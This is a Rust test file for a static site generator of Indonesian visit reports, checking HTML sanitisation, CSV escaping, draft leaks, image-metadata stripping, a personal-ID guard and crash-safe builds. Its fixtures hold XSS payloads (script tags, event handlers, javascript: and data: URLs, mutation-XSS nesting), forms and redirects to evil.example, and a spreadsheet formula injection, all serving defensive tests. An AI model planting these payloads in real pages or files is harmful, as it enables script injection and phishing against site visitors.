//! Hardening, through the real binary on fixture projects full of hostile input: no script
//! from content, nothing unpublished in any output file, the personal-data guard, image
//! metadata, and an output folder that survives a build killed at any moment.

use crate::common;
#[path = "../../fuzz/common/html_check.rs"]
mod html_check;

use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

use crate::common::{report, snapshot, Project, CONFIG};

/// Marker words that must appear in no output file.
const DRAFT_MARK: &str = "RAHASIADRAF";
const FUTURE_MARK: &str = "RAHASIAMASADEPAN";
const TEAM_MARK: &str = "Timrahasia";

const HOSTILE_TITLE: &str = "<img src=x onerror=alert(1)>";
const HOSTILE_SUMMARY: &str = "Ringkasan \"kutip\" </script><script>alert(2)</script> 'satu' dua";
const HOSTILE_UNIT: &str = "Dinas Pekerjaan Umum & Penataan Ruang";
const HOSTILE_REC: &str = "=HYPERLINK(\"https://klik.example/\",\"klik\")";

/// A hostile body: every way raw HTML and Markdown can try to carry script.
const HOSTILE_BODY: &str = r##"
## Temuan {onclick=alert(3) #temuan}

<script>alert(4)</script>
<p onmouseover="alert(5)" style="background:url(https://evil.example/t.png)">teks</p>
<iframe src="https://evil.example/"></iframe>
<object data="x.swf"></object><embed src="x.swf">
<img src="x" onerror="alert(6)">
<svg onload="alert(7)"><script>alert(8)</script></svg>
<a href="javascript:alert(9)">a</a> <a href="  JaVa&#x09;ScRiPt:alert(10)">b</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxMSk8L3NjcmlwdD4=">c</a>
<form action="https://evil.example/"><input type="password" name="p"></form>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<math><mtext><table><mglyph><style><img src=x onerror=alert(12)></style></mglyph></table></mtext></math>

[d](javascript:alert(13)) [e](vbscript:msgbox) ![f](data:image/svg+xml;base64,PHN2Zz4=)
<javascript:alert(14)>

| a | b |
|:-:|--:|
| 1 | 2 |

- [x] selesai
"##;

/// A report with hostile front-matter values and body.
fn hostile_report() -> String {
    format!(
        r#"+++
title = '{HOSTILE_TITLE}'
date = 2024-06-01
summary = '''{HOSTILE_SUMMARY}'''
tags = ["<b>label</b>"]

[visit]
unit = "{HOSTILE_UNIT}"
start = 2024-05-06
destination = "\"><script>alert(15)</script>"
topics = ["<svg onload=alert(16)>"]
hosts = ["Pemkot </title><script>alert(17)</script>"]
team = ["Sutrisno {TEAM_MARK}"]

[[recommendations]]
id = "R1"
text = '{HOSTILE_REC}'
owner = "Bagian <i>Umum</i>"
status = "proses"
+++
{HOSTILE_BODY}"#
    )
}

/// A report whose every field carries a marker word.
fn marked_report(mark: &str, date: &str, draft: bool) -> String {
    format!(
        r#"+++
title = "Laporan {mark}"
date = {date}
draft = {draft}
summary = "Ringkasan {mark}."
tags = ["{mark}-label"]

[visit]
unit = "Dinas {mark}"
start = 2024-05-06
destination = "Kota {mark}"
topics = ["topik {mark}"]
team = ["Anggota {mark}"]

[[recommendations]]
id = "R1"
text = "Rekomendasi {mark}."
owner = "Bidang {mark}"
status = "usulan"
+++

## {mark}

Isi {mark}.
"#
    )
}

/// A minimal JPEG with an EXIF segment (GPS and owner) and an XMP segment.
fn jpeg_with_exif() -> Vec<u8> {
    fn seg(marker: u8, payload: &[u8]) -> Vec<u8> {
        let mut s = vec![0xFF, marker];
        s.extend_from_slice(&((payload.len() + 2) as u16).to_be_bytes());
        s.extend_from_slice(payload);
        s
    }
    let mut exif =
        b"Exif\0\0II\x2A\0\x08\0\0\0\x01\0\x3B\x01\x02\0\x0D\0\0\0\x1A\0\0\0\0\0\0\0".to_vec();
    exif.extend_from_slice(b"SECRET-OWNER\0 GPS -7.7956,110.3695");
    let mut j = vec![0xFF, 0xD8];
    j.extend(seg(0xE0, b"JFIF\0\x01\x01\0\0\x01\0\x01\0\0"));
    j.extend(seg(0xE1, &exif));
    j.extend(seg(
        0xE1,
        b"http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>SECRET-OWNER</x:xmpmeta>",
    ));
    j.extend(seg(0xDB, &[1u8; 65]));
    j.extend(seg(0xC0, b"\x08\0\x01\0\x01\x01\x01\x11\0"));
    j.extend(seg(0xDA, b"\x01\x01\0\0\x3F\0"));
    j.extend_from_slice(b"\x12\x34\xFF\xD9");
    j
}

/// The hostile portal: hostile report, draft, future report, a bundle with a non-ASCII name.
fn hostile_project() -> Project {
    let p = Project::new();
    p.file(
        "tilik.toml",
        &format!("{CONFIG}[publish]\nfuture_reports = false\n"),
    );
    p.file("content/laporan/2024/serangan.md", &hostile_report());
    p.file(
        "content/laporan/2024/draf.md",
        &marked_report(DRAFT_MARK, "2024-07-01", true),
    );
    p.file(
        "content/laporan/2026/masa-depan.md",
        &marked_report(FUTURE_MARK, "2027-01-15", false),
    );
    p.file(
        "content/laporan/2024/Kunjungan ke Bañyumas & Solo/index.md",
        &report("Kunjungan Bañyumas").replace(
            "## Latar Belakang",
            "## Latar Belakang\n\n![Foto TPST](<foto TPST ñ.jpg>)\n\n[Unduh ringkasan](<data ringkasan é.pdf>)",
        ),
    );
    p.bytes(
        "content/laporan/2024/Kunjungan ke Bañyumas & Solo/foto TPST ñ.jpg",
        &jpeg_with_exif(),
    );
    p.bytes(
        "content/laporan/2024/Kunjungan ke Bañyumas & Solo/data ringkasan é.pdf",
        b"%PDF-1.4 ringkasan",
    );
    p.file("content/laporan/2024/sleman.md", &report("Studi Sampah"));
    p
}

fn files_under(dir: &Path) -> Vec<PathBuf> {
    let mut files: Vec<PathBuf> = walkdir::WalkDir::new(dir)
        .into_iter()
        .flatten()
        .filter(|e| e.file_type().is_file())
        .map(|e| e.into_path())
        .collect();
    files.sort();
    files
}

#[test]
fn no_script_event_handler_javascript_url_or_iframe_comes_from_content() {
    let p = hostile_project();
    p.run(&["build"]).expect_code(0);
    let public = p.path().join("public");
    let mut html_files = 0;
    for file in files_under(&public) {
        if file.extension().is_some_and(|e| e == "html") {
            html_files += 1;
            let html = std::fs::read_to_string(&file).unwrap();
            let problems = html_check::page_problems(&html);
            assert!(problems.is_empty(), "{}: {problems:?}", file.display());
            assert!(!html.contains("<iframe"), "{}", file.display());
        }
    }
    assert!(html_files > 10, "only {html_files} HTML files");
    // The report page was really rendered, with what is harmless kept.
    let page = p.read("public/laporan/serangan/index.html");
    // The document tags a page may have are the theme's: as many as on a harmless report.
    let plain = p.read("public/laporan/sleman/index.html");
    for tag in ["<form", "<meta", "<link", "<base"] {
        assert_eq!(
            page.matches(tag).count(),
            plain.matches(tag).count(),
            "{tag} from content"
        );
    }
    assert!(page.contains("<p>teks</p>"), "sanitised paragraph kept");
    assert!(page.contains("id=\"temuan\""), "heading id kept");
    assert!(
        page.contains("class=\"align-center\""),
        "table alignment kept"
    );
    assert!(
        page.contains("\u{2611}&nbsp;") || page.contains("\u{2610}&nbsp;"),
        "task list kept"
    );
    // Frames, forms, base, refresh and style URLs all pointed there: none survived.
    assert!(!page.contains("evil.example"));
    assert!(!page.to_lowercase().contains("=\"javascript:"));
    assert!(
        page.contains("<a href=\"#\">d</a>"),
        "neutralised Markdown link"
    );
}

#[test]
fn hostile_front_matter_is_escaped_in_every_output_format() {
    let p = hostile_project();
    p.run(&["build"]).expect_code(0);
    let page = p.read("public/laporan/serangan/index.html");
    assert!(page.contains("&lt;img src=x onerror=alert(1)&gt;"));
    assert!(!page.contains(HOSTILE_TITLE));
    assert!(
        page.contains("&quot;kutip&quot; &lt;/script&gt;"),
        "summary in meta description"
    );
    assert!(page.contains("Dinas Pekerjaan Umum &amp; Penataan Ruang"));
    assert!(!page.contains("Umum & Penataan"));

    // JSON: the exact strings come back when parsed.
    let json: serde_json::Value =
        serde_json::from_str(&p.read("public/data/laporan.json")).unwrap();
    let rec = json["reports"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["title"] == HOSTILE_TITLE)
        .expect("hostile report in laporan.json");
    assert_eq!(rec["summary"], HOSTILE_SUMMARY);
    assert_eq!(rec["unit"], HOSTILE_UNIT);

    // CSV: quoted per RFC 4180 and no cell starts a spreadsheet formula.
    let csv_text = p.read("public/data/rekomendasi.csv");
    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    let row = rows
        .iter()
        .find(|r| &r[1] == HOSTILE_TITLE)
        .expect("hostile row");
    assert_eq!(&row[2], HOSTILE_UNIT);
    assert_eq!(row[4], format!("'{HOSTILE_REC}"));
    for r in &rows {
        for cell in r.iter() {
            assert!(!cell.starts_with(['=', '+', '-', '@']), "{cell}");
        }
    }

    // Atom and sitemap XML: escaped, never raw markup.
    for xml_file in files_under(&p.path().join("public"))
        .into_iter()
        .filter(|f| f.extension().is_some_and(|e| e == "xml"))
    {
        let xml = std::fs::read_to_string(&xml_file).unwrap();
        for raw in [HOSTILE_TITLE, "& Penataan", "<script"] {
            assert!(!xml.contains(raw), "{raw} raw in {}", xml_file.display());
        }
    }
    let feed = p.read("public/feed.xml");
    assert!(feed.contains("&lt;img src=x onerror=alert(1)&gt;"));
}

#[test]
fn theme_templates_use_safe_only_on_rendered_html() {
    // `r.card` is a list item's card, rendered (and escaped) by partials/report_card.html.
    let allowed = [
        "content",
        "home.content",
        "section.content",
        "charts.",
        "r.card",
        // schema.org JSON-LD, serialised with `<`, `>` and `&` escaped (render/structured.rs).
        "structured_data",
    ];
    let dir = common::repo_root().join("themes/default/templates");
    for file in files_under(&dir) {
        let text = std::fs::read_to_string(&file).unwrap();
        for (i, _) in text.match_indices("| safe") {
            let expr_start = text[..i].rfind("{{").unwrap();
            let expr = text[expr_start + 2..i].trim();
            assert!(
                allowed
                    .iter()
                    .any(|a| expr.ends_with(a) || expr.contains(a)),
                "{}: `{expr} | safe` on user data",
                file.display()
            );
        }
        assert!(
            !text.contains(" style=\""),
            "{}: inline style attribute",
            file.display()
        );
        assert!(
            !text.contains("<script>"),
            "{}: inline script",
            file.display()
        );
    }
}

#[test]
fn nothing_unpublished_leaks_into_any_output_file() {
    let p = hostile_project();
    p.run(&["build"]).expect_code(0);
    let public = p.path().join("public");
    let files = files_under(&public);
    assert!(files.iter().any(|f| f.ends_with("data/laporan.json")));
    for file in &files {
        let bytes = std::fs::read(file).unwrap();
        let text = String::from_utf8_lossy(&bytes).to_lowercase();
        for mark in [DRAFT_MARK, FUTURE_MARK, TEAM_MARK, "Budi Santoso"] {
            assert!(
                !text.contains(&mark.to_lowercase()),
                "{mark} in {}",
                file.display()
            );
        }
    }
    // Counts, too: three reports published (hostile, bundle, sleman), not five.
    let json: serde_json::Value =
        serde_json::from_str(&p.read("public/data/laporan.json")).unwrap();
    assert_eq!(json["reports"].as_array().unwrap().len(), 3);

    // The markers are real: with --drafts both held-back reports are there.
    p.run(&["build", "--drafts"]).expect_code(0);
    let all = p.read("public/data/laporan.json");
    assert!(all.contains(DRAFT_MARK) && all.contains(FUTURE_MARK));
}

#[test]
fn future_reports_are_published_unless_the_site_says_otherwise() {
    let p = Project::new();
    p.file(
        "content/laporan/masa-depan.md",
        &marked_report(FUTURE_MARK, "2027-01-15", false),
    );
    p.run(&["build"]).expect_code(0);
    assert!(p.read("public/data/laporan.json").contains(FUTURE_MARK));
}

#[test]
fn bundle_images_lose_their_metadata_and_names_with_spaces_and_accents_work() {
    let p = hostile_project();
    p.run(&["build"]).expect_code(0);
    let dir = p.path().join("public/laporan/kunjungan-ke-banyumas-solo");
    let jpeg = std::fs::read(dir.join("foto TPST ñ.jpg")).expect("image copied under its own name");
    assert!(jpeg.starts_with(&[0xFF, 0xD8]) && jpeg.ends_with(&[0xFF, 0xD9]));
    let text = String::from_utf8_lossy(&jpeg);
    assert!(!text.contains("SECRET-OWNER") && !text.contains("GPS") && !text.contains("Exif"));
    assert!(text.contains("JFIF"));
    assert!(
        jpeg.ends_with(b"\x3F\0\x12\x34\xFF\xD9"),
        "scan data untouched"
    );
    // Other attachments are copied byte for byte.
    assert_eq!(
        std::fs::read(dir.join("data ringkasan é.pdf")).unwrap(),
        b"%PDF-1.4 ringkasan"
    );
    // The page links to them by a URL a browser resolves to those files.
    let page = std::fs::read_to_string(dir.join("index.html")).unwrap();
    assert!(
        page.contains("src=\"foto%20TPST%20%C3%B1.jpg\""),
        "image link"
    );
    assert!(
        page.contains("href=\"data%20ringkasan%20%C3%A9.pdf\""),
        "attachment link"
    );
}

#[test]
fn rebuilds_with_stripped_images_are_byte_identical() {
    let p = hostile_project();
    p.run(&["build", "-o", "satu"]).expect_code(0);
    p.run(&["build", "-o", "dua"]).expect_code(0);
    assert_eq!(
        snapshot(&p.path().join("satu")),
        snapshot(&p.path().join("dua"))
    );
}

#[test]
fn a_damaged_image_fails_the_build_rather_than_leaking_its_metadata() {
    let p = Project::new();
    p.file("content/laporan/a/index.md", &report("A"));
    let mut broken = jpeg_with_exif();
    broken.truncate(60);
    p.bytes("content/laporan/a/foto.jpg", &broken);
    let run = p.run(&["build", "--lang", "en"]).expect_code(1);
    assert!(
        run.stderr.contains(
            "content/laporan/a/foto.jpg: error: cannot remove the image's metadata \
             (EXIF: GPS position, camera owner): truncated or damaged JPEG"
        ),
        "{}",
        run.stderr
    );
    assert!(!p.path().join("public").exists());
}

#[test]
fn damaged_images_are_content_errors_that_check_reports_with_the_others() {
    let p = Project::new();
    p.file("content/laporan/a/index.md", &report("A"));
    p.bytes("content/laporan/a/foto.png", b"\x89PNG\r\n\x1a\n\0\0");
    p.bytes("content/laporan/a/lain.jpg", b"GIF89a");
    p.file("content/laporan/b.md", "+++\ntitle = \"B\"\n");
    let run = p.run(&["check"]).expect_code(1);
    let e = &run.stderr;
    assert!(
        e.contains("content/laporan/a/foto.png: error: metadata gambar (EXIF: lokasi GPS, pemilik kamera) tidak dapat dihapus: berkas PNG terpotong atau rusak"),
        "{e}"
    );
    assert!(
        e.contains("content/laporan/a/lain.jpg: error: metadata gambar (EXIF: lokasi GPS, pemilik kamera) tidak dapat dihapus: isinya bukan gambar JPEG, PNG atau WebP"),
        "{e}"
    );
    assert!(e.contains("content/laporan/b.md:"), "{e}");
    assert!(e.contains("3 kesalahan"), "{e}");
}

#[test]
fn images_whose_metadata_cannot_be_removed_are_warned_about() {
    let p = Project::new();
    p.file("content/laporan/a/index.md", &report("A"));
    p.bytes("content/laporan/a/foto.heic", b"\0\0\0\x18ftypheic");
    let run = p.run(&["build", "--lang", "en"]).expect_code(0);
    assert!(
        run.stderr
            .contains("content/laporan/a/foto.heic: warning: metadata (EXIF"),
        "{}",
        run.stderr
    );
}

#[test]
fn bundle_files_that_would_run_script_are_refused_unless_writers_are_trusted() {
    let p = Project::new();
    p.file("content/laporan/a/index.md", &report("A"));
    p.file(
        "content/laporan/a/halaman.html",
        "<script>alert(1)</script>",
    );
    p.file(
        "content/laporan/a/peta.svg",
        "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"></svg>",
    );
    p.file(
        "content/laporan/a/grafik.svg",
        "<svg xmlns=\"http://www.w3.org/2000/svg\"><rect width=\"4\" height=\"4\"/></svg>",
    );
    let run = p.run(&["build", "--lang", "en"]).expect_code(1);
    for refused in [
        "content/laporan/a/halaman.html: error: this file can run script",
        "content/laporan/a/peta.svg:1:1: error: this SVG image can run script",
    ] {
        assert!(run.stderr.contains(refused), "{}", run.stderr);
    }
    assert!(!run.stderr.contains("grafik.svg"), "{}", run.stderr);
    p.file(
        "tilik.toml",
        &format!("{CONFIG}[markdown]\nallow_raw_html = true\n"),
    );
    p.run(&["build"]).expect_code(0);
    assert!(p.path().join("public/laporan/a/halaman.html").exists());
}

// -------------------------------------------------------------------------------------------
// Personal data guard

const PII_REPORT: &str = r#"+++
title = "Kunjungan Layanan"
date = 2024-05-20
summary = "Kontak NIK 3404121503850001 tidak boleh terbit."

[visit]
unit = "Dinas Kependudukan"
start = 2024-05-06
destination = "Kota Surabaya"
topics = ["pelayanan publik"]
hosts = ["Dispendukcapil, telp. (031) 5312144"]

[[recommendations]]
id = "R1"
text = "Hubungi koordinator di 0812-3456-7890."
owner = "Bidang Pelayanan"
+++

## Narasumber

Kepala bidang, NIP 19710304 199703 1 002, menjelaskan alur layanan.
Kantor: (0274) 868405.
"#;

#[test]
fn nik_and_nip_fail_the_build_with_positions_in_indonesian() {
    let p = Project::new();
    p.file("content/laporan/a.md", PII_REPORT);
    let run = p.run(&["build"]).expect_code(1);
    let err = &run.stderr;
    assert!(
        err.contains(
            "content/laporan/a.md:4:11: error: angka 3404•••••••••001 berbentuk NIK (16 digit)"
        ),
        "{err}"
    );
    assert!(
        err.contains(
            "content/laporan/a.md:21:20: error: angka 1971•••••••••••002 berbentuk NIP (18 digit)"
        ),
        "{err}"
    );
    assert!(
        err.contains(
            "content/laporan/a.md:15:8: warning: 0812•••••890 tampaknya nomor ponsel pribadi"
        ),
        "{err}"
    );
    assert!(err.contains("allowed_numbers"), "{err}");
    assert!(
        !err.contains("3404121503850001"),
        "the number itself is not repeated"
    );
    assert!(
        !err.contains("868405") && !err.contains("5312144"),
        "office numbers pass: {err}"
    );
    assert!(!p.path().join("public").exists());
}

#[test]
fn personal_data_messages_in_english_and_in_yaml_front_matter() {
    let p = Project::new();
    let yaml = "---\ntitle: Kunjungan\ndate: 2024-05-20\nsummary: ok\nextra:\n  kontak: 3404121503850001\nvisit:\n  unit: Dinas\n  start: 2024-05-06\n  destination: Kota\n  topics: [a]\n---\nIsi.\n";
    p.file("content/laporan/b.md", yaml);
    let run = p.run(&["check", "--lang", "en"]).expect_code(1);
    assert!(
        run.stderr.contains("content/laporan/b.md:6:11: error: the number 3404•••••••••001 looks like an NIK (16 digits)"),
        "{}",
        run.stderr
    );
}

#[test]
fn allowed_numbers_pass_and_mobile_numbers_only_warn() {
    let p = Project::new();
    p.file(
        "tilik.toml",
        &format!("{CONFIG}[privacy]\nallowed_numbers = [\"3404 1215 0385 0001\", \"197103041997031002\"]\n"),
    );
    p.file("content/laporan/a.md", PII_REPORT);
    let run = p.run(&["build"]).expect_code(0);
    assert!(
        run.stderr.contains("warning: 0812•••••890"),
        "{}",
        run.stderr
    );
    assert!(!run.stderr.contains("error"), "{}", run.stderr);
}

#[test]
fn unpublished_drafts_are_not_held_to_the_guard_until_published() {
    let p = Project::new();
    p.file("content/laporan/ok.md", &report("Ok"));
    p.file(
        "content/laporan/draf.md",
        &PII_REPORT.replace("date = 2024-05-20", "date = 2024-05-20\ndraft = true"),
    );
    p.run(&["build"]).expect_code(0);
    p.run(&["build", "--drafts"]).expect_code(1);
}

// -------------------------------------------------------------------------------------------
// Never lose data

/// A project of `n` reports (a few KB each), so that a build takes a while.
fn large_project(n: usize) -> Project {
    let p = Project::new();
    let body =
        "Paragraf temuan dengan **penekanan** dan [tautan](https://example.go.id/).\n\n".repeat(20);
    for i in 0..n {
        let text = report(&format!("Laporan {i}"))
            .replace("Kota Surabaya", &format!("Kota {}", i % 40))
            .replace("pengelolaan sampah", &format!("topik {}", i % 25))
            + &body;
        p.file(&format!("content/laporan/{}/r{i}.md", 2020 + i % 6), &text);
    }
    p
}

/// When to kill a build: after a delay from its start, or once it has begun writing the new
/// output (its staging folder exists) and then a further delay.
#[derive(Clone, Copy, Debug)]
enum KillAt {
    AfterStart(Duration),
    WhileWriting(Duration),
}

/// Whether the build with this process id has begun writing its staging folder.
fn staging_exists(project: &Path, pid: u32) -> bool {
    project
        .join(format!(".public.tilik-staging-{pid}"))
        .exists()
}

#[test]
fn killing_a_build_at_any_moment_leaves_the_previous_output_intact() {
    let p = large_project(400);
    p.run(&["build"]).expect_code(0);
    let public = p.path().join("public");
    let before = snapshot(&public);
    // A change, so that a build which completes would give a different output.
    let new_report = "content/laporan/2025/baru.md";
    p.file(new_report, &report("Laporan Baru"));
    p.run(&["build", "-o", "after-ref"]).expect_code(0);
    let after = snapshot(&p.path().join("after-ref"));
    std::fs::remove_dir_all(p.path().join("after-ref")).unwrap();
    assert_ne!(before, after);

    let started = Instant::now();
    p.run(&["build", "-o", "timing"]).expect_code(0);
    let full = started.elapsed();
    std::fs::remove_dir_all(p.path().join("timing")).unwrap();

    let mut plan: Vec<KillAt> = (1..4).map(|k| KillAt::AfterStart(full * k / 4)).collect();
    plan.extend(
        [0u64, 1, 3, 10, 30, 100]
            .into_iter()
            .map(|ms| KillAt::WhileWriting(Duration::from_millis(ms))),
    );
    let mut killed_while_writing = 0;
    for at in plan {
        let mut child = Command::new(env!("CARGO_BIN_EXE_tilik"))
            .arg("build")
            .current_dir(p.path())
            .env("TILIK_BUILD_DATE", "2026-11-23")
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap();
        match at {
            KillAt::AfterStart(delay) => std::thread::sleep(delay),
            KillAt::WhileWriting(delay) => {
                let deadline = Instant::now() + Duration::from_secs(120);
                while !staging_exists(p.path(), child.id())
                    && child.try_wait().unwrap().is_none()
                    && Instant::now() < deadline
                {
                    std::thread::sleep(Duration::from_micros(200));
                }
                std::thread::sleep(delay);
            }
        }
        let writing = staging_exists(p.path(), child.id());
        let finished = child.try_wait().unwrap().is_some();
        child.kill().unwrap(); // SIGKILL
        child.wait().unwrap();
        let now = snapshot(&public);
        if finished || now == after {
            // It got through the swap before the kill: the whole new output is there.
            assert!(
                now == after,
                "{at:?}: a finished build wrote all of its output"
            );
            std::fs::remove_file(p.path().join(new_report)).unwrap();
            p.run(&["build"]).expect_code(0);
            assert!(snapshot(&public) == before);
            p.file(new_report, &report("Laporan Baru"));
        } else {
            assert!(now == before, "{at:?}: the output changed");
            if writing {
                killed_while_writing += 1;
            }
        }
    }
    eprintln!("full build {full:?}; {killed_while_writing} kills landed while writing");
    assert!(
        killed_while_writing >= 3,
        "only {killed_while_writing} kills landed while writing"
    );
    // The next build cleans up what the killed ones left and leaves only the output (and
    // the spare tree the build after it starts from).
    p.run(&["build"]).expect_code(0);
    let leftovers: Vec<String> = std::fs::read_dir(p.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.contains("tilik-") && n != ".public.tilik-spare")
        .collect();
    assert!(leftovers.is_empty(), "{leftovers:?}");
}

/// `cargo test --release --test it hardening:: -- --ignored --nocapture` prints the timings.
#[test]
#[ignore = "large: run with --ignored (about 10 s in release)"]
fn a_50_mb_markdown_file_builds_in_bounded_time() {
    let p = Project::new();
    let paragraph = "Temuan lapangan: layanan **terpadu** satu pintu, 1.234 berkas per bulan, <b>tebal</b> dan [tautan](https://example.go.id/).\n\n";
    let mut text = report("Besar");
    while text.len() < 50 * 1024 * 1024 {
        text.push_str(paragraph);
    }
    p.file("content/laporan/besar.md", &text);
    let started = Instant::now();
    p.run(&["build"]).expect_code(0);
    let took = started.elapsed();
    eprintln!("50 MB Markdown file: built in {took:?}");
    assert!(took < Duration::from_secs(120), "{took:?}");
}

#[test]
#[ignore = "large: run with --ignored (about 20 s in release)"]
fn twenty_thousand_tiny_files_build_in_bounded_time() {
    let p = Project::new();
    for i in 0..20_000 {
        p.file(
            &format!("content/halaman/{:03}/h{i}.md", i / 200),
            &format!("+++\ntitle = \"Halaman {i}\"\ndate = 2024-01-01\n+++\nIsi {i}.\n"),
        );
    }
    let started = Instant::now();
    p.run(&["build"]).expect_code(0);
    let took = started.elapsed();
    eprintln!("20,000 tiny files: built in {took:?}");
    assert!(took < Duration::from_secs(300), "{took:?}");
}
